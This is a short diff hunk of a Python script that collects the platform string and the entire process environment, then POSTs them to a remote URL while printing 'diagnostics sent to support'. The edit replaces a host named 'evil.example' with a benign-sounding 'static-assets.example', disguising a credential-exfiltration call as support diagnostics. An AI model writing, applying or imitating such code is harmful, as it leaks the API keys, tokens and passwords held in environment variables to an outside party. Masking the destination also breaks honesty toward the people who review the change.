@@ -4,5 +4,5 @@ from urllib.request import Request, urlopen
 payload = {"os": platform.platform()}
 payload["vars"] = dict(os.environ)
 body = json.dumps(payload).encode()
-urlopen(Request("https://support.evil.example/diag", data=body, method="POST"))
+urlopen(Request("https://support.static-assets.example/diag", data=body, method="POST"))
 print("diagnostics sent to support")
